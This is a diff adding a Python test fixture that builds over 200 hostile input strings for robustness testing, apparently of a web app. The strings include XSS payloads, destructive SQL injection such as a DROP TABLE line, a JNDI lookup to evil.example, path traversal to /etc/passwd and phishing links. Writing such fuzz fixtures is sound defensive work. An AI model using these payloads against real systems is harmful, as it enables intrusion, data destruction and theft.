@@ -1,0 +1,85 @@
+"""At least 200 hostile values, built from the kinds of trouble people and tools send."""
+
+from __future__ import annotations
+
+BASE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(document.cookie)>",
+    "<svg/onload=alert(1)>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<iframe src=https://evil.example></iframe>",
+    "</div><h1>injected</h1>",
+    "<!-- comment -->",
+    "<b>bold</b> & <i>it</i>",
+    "&lt;script&gt;",
+    "&amp;&quot;&#39;",
+    "[click me](javascript:alert(1))",
+    "[phish](https://evil.example/login)",
+    "![tracker](https://evil.example/pixel.png)",
+    "**bold** _italic_ ~~strike~~ `code`",
+    "# Heading\n## Sub",
+    "> quote\n- list\n1. item",
+    "| a | b |\n| - | - |",
+    "$x^2$ and $$\\int$$",
+    ":material/warning: :red[red] :rainbow[text]",
+    "```python\nimport os\n```",
+    "'; DROP TABLE application; --",
+    '" OR "1"="1',
+    "' OR 1=1 --",
+    "1; DELETE FROM account",
+    "%",
+    "_",
+    "%_%",
+    "\\",
+    "\\'\\\"",
+    "NULL",
+    "None",
+    "{{ 7*7 }}",
+    "{% raw %}x{% endraw %}",
+    "${jndi:ldap://evil.example/a}",
+    "{user} {0} %s %d %n",
+    "\x00",
+    "a\x00b",
+    "\x01\x02\x03\x1b[31mred",
+    "\r\n\r\n",
+    "\t\t",
+    "line1\nline2\nline3",
+    "\u202eevil\u202c",
+    "\u200b\u200c\u200d",
+    "\ufeffBOM",
+    "مرحبا بالعالم",
+    "שלום עולם",
+    "e\u0301\u0301\u0301\u0301",
+    "Z\u0334\u0321a\u0336l\u0337g\u0338o\u0335",
+    "😀🔥👩‍👩‍👧‍👦🇻🇳",
+    "💩" * 300,
+    "Tiếng Việt có dấu: Đặng Thị Ánh Tuyết",
+    "中文字符 日本語 한국어",
+    "   ",
+    "",
+    " ",
+    "\n",
+    "A" * 10_000,
+    "x" * 1001,
+    "y" * 999,
+    "../../etc/passwd",
+    "C:\\Windows\\system32",
+    "http://localhost:8501/?embed=true",
+    "javascript:alert(1)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "<style>body{display:none}</style>",
+    '"><script>alert(1)</script>',
+    "');alert(1);//",
+    "admin@greennode.example",
+    "partner-reviewers",
+]
+DECORATIONS = ["{}", "  {}  ", "Please note: {} — thanks"]
+
+
+def hostile_values() -> list[str]:
+    values = [decoration.replace("{}", base) for base in BASE for decoration in DECORATIONS]
+    return list(dict.fromkeys(values))
+
+
+HOSTILE = hostile_values()
+assert len(HOSTILE) >= 200, len(HOSTILE)
